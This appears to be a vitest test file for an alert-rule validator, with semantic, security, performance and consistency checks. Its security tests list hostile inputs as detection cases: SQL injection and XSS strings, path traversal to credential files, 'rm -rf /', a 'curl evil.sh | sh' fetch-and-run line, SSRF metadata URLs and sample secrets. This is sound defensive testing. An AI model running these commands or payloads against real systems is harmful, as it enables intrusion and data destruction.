import { describe, expect, it } from 'vitest';
import { TenantIsolationError } from '../exceptions/index.js';
import type { ConsistencyLookup, TenantContext } from './check.js';
import { findInjections } from './injection.js';
import { createValidator, type ValidateOptions } from './pipeline.js';
import type { ValidationFinding, ValidationLevel } from './result.js';
import { findSecrets, shannonEntropy } from './secrets.js';
import { checkUrlTarget } from './ssrf.js';
import { checkTemplateBraces } from './template.js';

const validator = createValidator({ cache: false, maxErrors: 50 });
const run = (doc: Record<string, unknown>, opts: ValidateOptions = {}) =>
  validator.validate(doc, opts);
const pick = (fs: readonly ValidationFinding[], code: string) =>
  fs
    .filter((f) => f.code === code)
    .map((f) => ({ level: f.level, path: f.path, severity: f.severity }));
const all = async (doc: Record<string, unknown>, opts: ValidateOptions = {}) =>
  (await run(doc, opts)).findings();
const expectFinding = async (
  doc: Record<string, unknown>,
  code: string,
  level: ValidationLevel,
  path: string,
  severity: 'error' | 'warning' | 'info' = 'error',
  opts: ValidateOptions = {},
) => {
  expect(pick(await all(doc, opts), code)).toContainEqual({ level, path, severity });
};
const expectNo = async (doc: Record<string, unknown>, code: string, opts: ValidateOptions = {}) => {
  expect(pick(await all(doc, opts), code)).toEqual([]);
};

describe('semantic level', () => {
  it('endsAt after startsAt', async () => {
    await expectFinding(
      { startsAt: '2026-01-02T00:00:00Z', endsAt: '2026-01-01T00:00:00Z' },
      'ends_before_starts',
      'semantic',
      '/endsAt',
    );
    await expectFinding(
      { starts_at: '2026-01-02T00:00:00Z', ends_at: '2026-01-02T00:00:00Z' },
      'ends_before_starts',
      'semantic',
      '/ends_at',
    );
    await expectNo({ startsAt: new Date(0), endsAt: 1000 }, 'ends_before_starts');
    await expectNo({ startsAt: 'not a date', endsAt: '' }, 'ends_before_starts');
  });

  it('for is neither negative nor above 24h', async () => {
    await expectFinding({ for: '25h' }, 'for_too_long', 'semantic', '/for');
    await expectFinding({ for: -1 }, 'for_negative', 'semantic', '/for');
    await expectFinding({ for: '-5m' }, 'for_negative', 'semantic', '/for');
    await expectNo({ for: '24h' }, 'for_too_long');
    await expectNo({ for: 'soon' }, 'for_too_long');
    await expectNo({ for: '-soon' }, 'for_negative');
  });

  it('level and priority are coherent, unless the tenant maps them so', async () => {
    await expectFinding(
      { level: 'critical', priority: 'P4' },
      'level_priority_mismatch',
      'semantic',
      '/priority',
    );
    await expectFinding(
      { level: 'critical', priority: 'p5' },
      'level_priority_mismatch',
      'semantic',
      '/priority',
    );
    await expectFinding(
      { level: 'info', priority: 'P1' },
      'level_priority_mismatch',
      'semantic',
      '/priority',
    );
    await expectFinding(
      { level: 'critical', priority: 'P3' },
      'level_priority_unusual',
      'semantic',
      '/priority',
      'warning',
    );
    await expectNo({ level: 'critical', priority: 'P2' }, 'level_priority_unusual');
    await expectNo({ level: 'critical', priority: 'PX' }, 'level_priority_mismatch');
    const tenant: TenantContext = {
      id: 'acme',
      settings: { levelPriorities: { critical: 'P4', high: 'P4', medium: 'P4' } },
    };
    await expectNo({ level: 'critical', priority: 'P4' }, 'level_priority_mismatch', { tenant });
    const bad: TenantContext = { id: 'acme', settings: { levelPriorities: { info: 'P1' } } };
    await expectFinding(
      { level: 'critical', priority: 'P5' },
      'level_priority_mismatch',
      'semantic',
      '/priority',
      'error',
      { tenant: bad },
    );
    await expectFinding(
      { level: 'critical', priority: 'P1' },
      'invalid_level_priorities',
      'semantic',
      '',
      'warning',
      { tenant: bad },
    );
  });

  it('status changes follow the transition table', async () => {
    await expectFinding(
      { status: 'acknowledged' },
      'invalid_status_transition',
      'semantic',
      '/status',
      'error',
      {
        previous: { status: 'resolved' },
      },
    );
    await expectNo({ status: 'acknowledged' }, 'invalid_status_transition', {
      previous: { status: 'firing' },
    });
    await expectNo({ status: 'acknowledged' }, 'invalid_status_transition', {
      previous: { status: 'suppressed', previousStatus: 'acknowledged' },
    });
    await expectFinding(
      { status: 'acknowledged' },
      'invalid_status_transition',
      'semantic',
      '/status',
      'error',
      {
        previous: { status: 'suppressed' },
      },
    );
    await expectNo({ status: 'firing' }, 'invalid_status_transition', {
      previous: { status: 'firing' },
    });
    await expectNo({ status: 'firing' }, 'invalid_status_transition');
  });

  it('the condition parses as PromQL, with line and column', async () => {
    const r = await run({ condition: 'rate(x[5m]) >\n  )' });
    const f = r.errors.find((e) => e.code === 'invalid_promql');
    expect(f).toMatchObject({ level: 'semantic', path: '/condition', line: 2, column: 3 });
    await expectFinding({ expr: '' }, 'invalid_promql', 'semantic', '/expr');
    await expectNo({ condition: 'cpu_usage > 80' }, 'invalid_promql');
  });

  it('label and annotation names are valid and not reserved', async () => {
    await expectFinding(
      { labels: { '1bad': 'x' } },
      'invalid_label_name',
      'semantic',
      '/labels/1bad',
    );
    await expectFinding(
      { labels: { __name__: 'x' } },
      'reserved_label_name',
      'semantic',
      '/labels/__name__',
    );
    await expectFinding(
      { annotations: { 'a-b': 'x' } },
      'invalid_annotation_name',
      'semantic',
      '/annotations/a-b',
    );
    await expectFinding(
      { annotations: { __x: 'x' } },
      'reserved_annotation_name',
      'semantic',
      '/annotations/__x',
    );
    await expectNo({ labels: { team: 'x' }, annotations: { summary: 'y' } }, 'invalid_label_name');
  });

  it('annotation and label templates parse', async () => {
    const r = await run({ annotations: { summary: 'ok', description: 'line\nCPU {{ $value' } });
    expect(r.errors.find((e) => e.code === 'invalid_template')).toMatchObject({
      level: 'semantic',
      path: '/annotations/description',
      line: 2,
      column: 5,
    });
    await expectFinding(
      { labels: { team: '{{ if .x }}a' } },
      'invalid_template',
      'semantic',
      '/labels/team',
    );
    await expectNo(
      { annotations: { summary: 'CPU {{ $value }} on {{ $labels.instance }}' } },
      'invalid_template',
    );
  });

  it('accepts a custom template checker', async () => {
    const v = createValidator({
      cache: false,
      checkOptions: {
        semantic: {
          templateChecker: (t) =>
            t.includes('bad') ? { ok: false, message: 'bad' } : { ok: true },
        },
      },
    });
    const r = await v.validate({ annotations: { a: '{{ bad }}', b: '{{ good }}' } });
    expect(pick(r.errors, 'invalid_template')).toEqual([
      { level: 'semantic', path: '/annotations/a', severity: 'error' },
    ]);
    expect(v.checks.version).not.toBe(validator.checks.version);
  });
});

describe('checkTemplateBraces', () => {
  it.each([
    ['plain }} text', true],
    ['{{ "}}" }}', true],
    ['{{ `}}` }}', true],
    ["{{ '}' }}", true],
    ['{{/* comment }} */}}', true],
    ['{{- $value -}}', true],
    ['{{ if gt $value 1.0 }}high{{ else }}low{{ end }}', true],
    ['{{ range $k, $v := $labels }}{{ $k }}{{ end }}', true],
    ['{{ $value', false],
    ['{{ }}', false],
    ['{{- -}}', false],
    ['{{ "abc }}', false],
    ["{{ 'a }}", false],
    ['{{ `abc }}', false],
    ['{{/* abc }}', false],
    ['{{ end }}', false],
    ['{{ if .x }}', false],
  ])('%s → ok %s', (text, ok) => {
    expect(checkTemplateBraces(text).ok).toBe(ok);
  });
});

describe('security level', () => {
  it('refuses __proto__ keys anywhere; constructor and prototype are data', async () => {
    const doc = JSON.parse(
      '{"a":{"__proto__":{"x":1}},"list":[{"constructor":1}],"prototype":2}',
    ) as Record<string, unknown>;
    const codes = pick(await all(doc), 'forbidden_key');
    expect(codes).toEqual([{ level: 'security', path: '/a/__proto__', severity: 'error' }]);
    await expectNo({ a: { b: 1 } }, 'forbidden_key');
  });

  it('throws TenantIsolationError for a document of another tenant', async () => {
    await expect(run({ tenantId: 'other' }, { tenant: { id: 'acme' } })).rejects.toBeInstanceOf(
      TenantIsolationError,
    );
    await expect(run({ tenant_id: 'other' }, { tenant: { id: 'acme' } })).rejects.toMatchObject({
      code: 'ALERTBASE_TENANT_ISOLATION',
    });
    await expect(run({ tenantId: 'acme' }, { tenant: { id: 'acme' } })).resolves.toBeDefined();
    await expect(run({ tenantId: 'other' })).resolves.toBeDefined();
  });

  it('reports injection-looking free text as warnings with the fragment', async () => {
    const r = await run({
      description: "x'; DROP TABLE users; --",
      annotations: { summary: '<img src=x onerror=alert(1)>', link: 'javascript:alert(1)' },
      name: '../../etc/passwd',
      command: 'ls -la; rm -rf /',
      args: ['a', 'b|c'],
      condition: 'up == 0',
    });
    expect(pick(r.warnings, 'sql_injection')).toContainEqual({
      level: 'security',
      path: '/description',
      severity: 'warning',
    });
    expect(pick(r.warnings, 'script_injection')).toEqual([
      { level: 'security', path: '/annotations/summary', severity: 'warning' },
      { level: 'security', path: '/annotations/link', severity: 'warning' },
    ]);
    expect(pick(r.warnings, 'path_traversal')).toEqual([
      { level: 'security', path: '/name', severity: 'warning' },
    ]);
    expect(pick(r.warnings, 'shell_injection')).toEqual([
      { level: 'security', path: '/command', severity: 'warning' },
      { level: 'security', path: '/args/1', severity: 'warning' },
    ]);
    expect(r.warnings.find((w) => w.code === 'sql_injection')?.fragment).toMatch(
      /DROP TABLE users/i,
    );
    await expectNo({ condition: 'x{a="DROP TABLE users;"}' }, 'sql_injection');
  });

  it('SSRF: refuses local, private and metadata targets unless allowed', async () => {
    const cases: [string, string][] = [
      ['http://127.0.0.1/', 'ssrf_loopback'],
      ['http://2130706433/', 'ssrf_loopback'],
      ['http://0x7f.1/', 'ssrf_loopback'],
      ['http://0177.0.0.1/', 'ssrf_loopback'],
      ['http://[::1]/', 'ssrf_loopback'],
      ['http://[::ffff:127.0.0.1]/', 'ssrf_loopback'],
      ['http://[::127.0.0.1]/', 'ssrf_loopback'],
      ['http://10.1.2.3/', 'ssrf_private_address'],
      ['http://172.16.0.1/', 'ssrf_private_address'],
      ['http://192.168.1.1/', 'ssrf_private_address'],
      ['http://100.64.0.1/', 'ssrf_private_address'],
      ['http://[fd12::1]/', 'ssrf_private_address'],
      ['http://[::ffff:10.0.0.1]/', 'ssrf_private_address'],
      ['http://169.254.1.1/', 'ssrf_link_local'],
      ['http://[fe80::1]/', 'ssrf_link_local'],
      ['http://0.0.0.0/', 'ssrf_unspecified'],
      ['http://[::]/', 'ssrf_unspecified'],
      ['http://169.254.169.254/latest/meta-data', 'ssrf_cloud_metadata'],
      ['http://[fd00:ec2::254]/', 'ssrf_cloud_metadata'],
      ['http://metadata.google.internal./computeMetadata/v1/', 'ssrf_cloud_metadata'],
      ['http://[64:ff9b::a9fe:a9fe]/', 'ssrf_cloud_metadata'],
      ['http://localhost:9093/', 'ssrf_localhost_name'],
      ['http://api.localhost/', 'ssrf_localhost_name'],
      ['ftp://example.com/', 'url_scheme_not_allowed'],
      ['not a url', 'invalid_url'],
    ];
    for (const [url, code] of cases) {
      expect({ url, verdict: checkUrlTarget(url) }).toMatchObject({
        url,
        verdict: { ok: false, category: code },
      });
    }
    expect(checkUrlTarget('https://hooks.example.com/x').ok).toBe(true);
    expect(checkUrlTarget('http://8.8.8.8/').ok).toBe(true);
    expect(checkUrlTarget('http://[2001:db8::1]/').ok).toBe(true);
    expect(checkUrlTarget('http://10.0.0.1/', { allowPrivateNetworks: true }).ok).toBe(true);
    expect(checkUrlTarget('http://localhost/', { allowPrivateNetworks: true }).ok).toBe(true);
    expect(checkUrlTarget('http://169.254.169.254/', { allowPrivateNetworks: true }).ok).toBe(
      false,
    );

    await expectFinding(
      { config: { webhookUrl: 'http://10.0.0.1/hook' } },
      'ssrf_private_address',
      'security',
      '/config/webhookUrl',
    );
    // A generator URL is a link alertbase never requests: a warning, even for
    // the loopback address every default Prometheus links to.
    await expectFinding(
      { generatorURL: 'http://0x7f.1/' },
      'ssrf_loopback',
      'security',
      '/generatorURL',
      'warning',
    );
    await expectFinding(
      { generator_url: 'http://localhost:9090/graph?g0.expr=up' },
      'ssrf_localhost_name',
      'security',
      '/generator_url',
      'warning',
    );
    await expectFinding(
      { generatorURL: 'http://169.254.169.254/latest/' },
      'ssrf_cloud_metadata',
      'security',
      '/generatorURL',
      'warning',
    );
    // Strict mode promotes security warnings, as for every other warning.
    await expectFinding(
      { generatorURL: 'http://127.0.0.1/' },
      'ssrf_loopback',
      'security',
      '/generatorURL',
      'error',
      { strict: true },
    );
    await expectFinding(
      { webhook: 'http://localhost:9093/' },
      'ssrf_localhost_name',
      'security',
      '/webhook',
    );
    await expectNo(
      { annotations: { runbook_url: 'http://10.0.0.1/wiki' } },
      'ssrf_private_address',
    );
    await expectNo({ url: 'http://10.0.0.1/' }, 'ssrf_private_address', {
      tenant: { id: 't', settings: { allowPrivateNetworks: true } },
    });
    await expectNo({ description: 'http://10.0.0.1/' }, 'ssrf_private_address');
  });

  it('detects secrets in labels and annotations, classified by sensitivity', async () => {
    const r = await run({
      labels: { key: 'AKIAIOSFODNN7EXAMPLE' },
      annotations: {
        pem: '-----BEGIN RSA PRIVATE KEY-----\nMIIE...',
        jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
        auth: 'Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345',
        pw: 'db password=hunter2hunter2',
        slack: 'xoxb-1234567890-abcdefghij',
        noise: 'token Zx9Qw3Er7Ty1Ui5Op8As2Df6Gh0Jk4Lm',
        ok: 'CPU is {{ $value }} on host 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
        templated: 'password={{ .password }}',
      },
    });
    const found = r.findings().filter((f) => f.code === 'secret_detected');
    const byPath = Object.fromEntries(found.map((f) => [f.path, [f.severity, f.sensitivity]]));
    expect(byPath).toEqual({
      '/labels/key': ['error', 'high'],
      '/annotations/pem': ['error', 'critical'],
      '/annotations/jwt': ['error', 'high'],
      '/annotations/auth': ['error', 'high'],
      '/annotations/pw': ['error', 'high'],
      '/annotations/slack': ['error', 'high'],
      '/annotations/noise': ['warning', 'medium'],
    });
    for (const f of found) expect(f.fragment).toContain('**********');
    expect(JSON.stringify(found)).not.toContain('hunter2');
    await expectNo({ description: 'AKIAIOSFODNN7EXAMPLE' }, 'secret_detected');
  });
});

describe('content scanners', () => {
  it.each([
    ["' OR '1'='1", 'sql_injection'],
    ['1 UNION ALL SELECT password FROM users', 'sql_injection'],
    ['SELECT * FROM users', 'sql_injection'],
    ['select name from users where id = 1', 'sql_injection'],
    ['DELETE FROM alerts;', 'sql_injection'],
    ['INSERT INTO t VALUES (1)', 'sql_injection'],
    ['UPDATE users SET admin=1', 'sql_injection'],
    ["admin'--", 'sql_injection'],
    ['1; shutdown now', 'sql_injection'],
    ['<ScRiPt>alert(1)</script>', 'script_injection'],
    ['<iframe src=//evil>', 'script_injection'],
    ['java\tscript:alert(1)', 'script_injection'],
    ['data:text/html;base64,xx', 'script_injection'],
    ['<svg/onload=alert(1)>', 'script_injection'],
    ['onmouseover="steal()"', 'script_injection'],
    ['foo && curl evil.sh | sh', 'shell_injection'],
    ['$(whoami)', 'shell_injection'],
    ['`id`', 'shell_injection'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
    ['%2e%2e%2fsecret', 'path_traversal'],
    ['/proc/self/environ', 'path_traversal'],
  ])('%s → %s', (text, kind) => {
    expect(findInjections(text).map((m) => m.kind)).toContain(kind);
  });

  it.each([
    'Select a server from the list',
    'Please drop table tennis from the agenda',
    'Update the dashboard and set the threshold',
    'CPU above 80% on {{ $labels.instance }}',
    'Run `kubectl get pods` and check the events',
    'onboarding=done',
    'latency p99 > 1s; see runbook',
  ])('prose %s → nothing', (text) => {
    expect(findInjections(text)).toEqual([]);
  });

  it('every metacharacter counts in a command field', () => {
    expect(findInjections('echo hi', { commandLike: true })).toEqual([]);
    expect(findInjections('echo $(pwd)', { commandLike: true }).map((m) => m.kind)).toEqual([
      'shell_injection',
    ]);
  });

  it('secrets: GitHub tokens, AWS secret keys, URL credentials; entropy', () => {
    expect(findSecrets(`ghp_${'a1B2'.repeat(9)}`)[0]?.kind).toBe('github_token');
    expect(
      findSecrets(`aws_secret_access_key = ${'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'}`)[0],
    ).toMatchObject({
      kind: 'aws_secret_key',
      sensitivity: 'critical',
    });
    expect(findSecrets('https://user:s3cret@db.example.com/x')[0]?.kind).toBe('url_credentials');
    expect(
      findSecrets('https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX')[0]?.kind,
    ).toBe('slack_webhook');
    expect(findSecrets('a'.repeat(40))).toEqual([]);
    expect(findSecrets('short')).toEqual([]);
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBe(2);
    expect(findSecrets('Zx9Qw3Er7Ty1Ui5Op8As2Df6Gh0Jk4Lm', { entropyThreshold: 6 })).toEqual([]);
  });
});

describe('performance level', () => {
  const small = createValidator({
    cache: false,
    maxErrors: 50,
    checkOptions: {
      performance: {
        limits: {
          maxDocumentBytes: 200,
          maxDepth: 3,
          maxLabels: 1,
          maxAnnotations: 1,
          maxTags: 1,
          maxStringLength: 20,
          nameMaxLength: 5,
          maxPromqlNodes: 10,
          maxPromqlSelectors: 1,
          maxPromqlRangeMs: 60_000,
        },
      },
    },
  });
  it('size, depth, counts, lengths', async () => {
    const r = await small.validate({
      name: 'too long name',
      labels: { a: 'x', b: 'y' },
      annotations: { a: 'x', b: 'y' },
      tags: ['a', 'b'],
      deep: { a: { b: { c: 1 } } },
      text: 'x'.repeat(100),
    });
    const at = (code: string) => pick(r.errors, code);
    expect(at('document_too_large')).toEqual([
      { level: 'performance', path: '', severity: 'error' },
    ]);
    expect(at('document_too_deep')).toEqual([
      { level: 'performance', path: '/deep/a/b', severity: 'error' },
    ]);
    expect(at('too_many_labels')).toEqual([
      { level: 'performance', path: '/labels', severity: 'error' },
    ]);
    expect(at('too_many_annotations')).toEqual([
      { level: 'performance', path: '/annotations', severity: 'error' },
    ]);
    expect(at('too_many_tags')).toEqual([
      { level: 'performance', path: '/tags', severity: 'error' },
    ]);
    expect(at('string_too_long')).toEqual([
      { level: 'performance', path: '/name', severity: 'error' },
      { level: 'performance', path: '/text', severity: 'error' },
    ]);
    const ok = await small.validate({ name: 'ok', labels: { a: 'x' } });
    expect(ok.isValid()).toBe(true);
  });

  it('PromQL complexity: nodes, selectors, range (warnings)', async () => {
    const r = await small.validate({ condition: 'sum(rate(a[5m])) / sum(rate(b[1h]))' });
    expect(pick(r.warnings, 'promql_too_complex')).toEqual([
      { level: 'performance', path: '/condition', severity: 'warning' },
    ]);
    expect(pick(r.warnings, 'promql_too_many_selectors')).toHaveLength(1);
    expect(pick(r.warnings, 'promql_range_too_large')).toHaveLength(1);
    const fine = await small.validate({ condition: 'up' });
    expect(fine.warnings).toEqual([]);
    const invalid = await small.validate({ condition: 'up ==' });
    expect(pick(invalid.warnings, 'promql_too_complex')).toEqual([]);
  });

  it('evaluation interval floor', async () => {
    await expectFinding(
      { interval: '500ms' },
      'evaluation_interval_too_short',
      'performance',
      '/interval',
    );
    await expectFinding(
      { evaluation_interval: 10 },
      'evaluation_interval_too_short',
      'performance',
      '/evaluation_interval',
    );
    await expectNo({ interval: '0' }, 'evaluation_interval_too_short');
    await expectNo({ interval: '1m' }, 'evaluation_interval_too_short');
  });

  it('a document with no JSON form is not sized', async () => {
    await expectNo({ big: 10n }, 'document_too_large');
  });
});

describe('consistency level', () => {
  const lookup: ConsistencyLookup = {
    findEntities: (_kind, ids) =>
      ids.flatMap((id) =>
        id === 'mine'
          ? [{ id, tenantId: 'acme' }]
          : id === 'theirs'
            ? [{ id, tenantId: 'other' }]
            : [],
      ),
    findIdByName: async (_kind, _tenant, name) => (name === 'taken' ? 'r1' : undefined),
    countEntities: (kind) => (kind === 'Full' ? 50 : 3),
  };
  const v = createValidator({
    cache: false,
    maxErrors: 50,
    checkOptions: { consistency: { kind: 'AlertRule' } },
  });
  const tenant: TenantContext = { id: 'acme', tier: 'free' };

  it('without a lookup, reports that it was skipped, never that it passed', async () => {
    const r = await v.validate({ name: 'x' }, { tenant });
    expect(pick(r.infos, 'consistency_skipped')).toEqual([
      { level: 'consistency', path: '', severity: 'info' },
    ]);
    expect(r.skipped).toEqual(['consistency']);
  });

  it('references exist in the same tenant (another tenant reads as unknown)', async () => {
    const r = await v.validate(
      { tenantId: 'acme', channelIds: ['mine', 'theirs', 'none'], ruleId: 'none' },
      { tenant, lookup },
    );
    expect(pick(r.errors, 'unknown_reference')).toEqual([
      { level: 'consistency', path: '/channelIds/1', severity: 'error' },
      { level: 'consistency', path: '/channelIds/2', severity: 'error' },
      { level: 'consistency', path: '/ruleId', severity: 'error' },
    ]);
  });

  it('names are unique per tenant (the entity itself excepted)', async () => {
    const dup = await v.validate({ name: 'taken' }, { tenant, lookup });
    expect(pick(dup.errors, 'duplicate_name')).toEqual([
      { level: 'consistency', path: '/name', severity: 'error' },
    ]);
    const self = await createValidator({
      cache: false,
      lookup,
      checkOptions: { consistency: { kind: 'AlertRule' } },
    }).validate({ id: 'r1', name: 'taken' }, { tenant });
    expect(self.has('duplicate_name')).toBe(false);
  });

  it('tier quotas: creating beyond the quota is an error; updates are not counted', async () => {
    const full = createValidator({
      cache: false,
      checkOptions: { consistency: { kind: 'Full', quotas: { Full: 'maxRules' } } },
    });
    const r = await full.validate({ name: 'x' }, { tenant, lookup });
    expect(pick(r.errors, 'quota_exceeded')).toEqual([
      { level: 'consistency', path: '', severity: 'error' },
    ]);
    const u = await full.validate({ name: 'x' }, { tenant, lookup, operation: 'update' });
    expect(u.has('quota_exceeded')).toBe(false);
    const ok = await v.validate({ name: 'x' }, { tenant, lookup });
    expect(ok.isValid()).toBe(true);
    expect(ok.skipped).toEqual([]);
  });

  it('a lookup without the needed method, or no tenant, skips that check', async () => {
    const r = await v.validate({ name: 'x', channelIds: ['a'] }, { lookup: {} });
    expect(r.findings().filter((f) => f.code === 'consistency_skipped').length).toBe(3);
    expect(r.skipped).toEqual(['consistency']);
    const noTenant = await v.validate({ name: 'x', channelIds: ['a'] }, { lookup });
    expect(noTenant.has('consistency_skipped')).toBe(true);
    const noTier = await v.validate({ name: 'x' }, { lookup, tenant: { id: 'acme' } });
    expect(noTier.has('consistency_skipped')).toBe(true);
  });
});
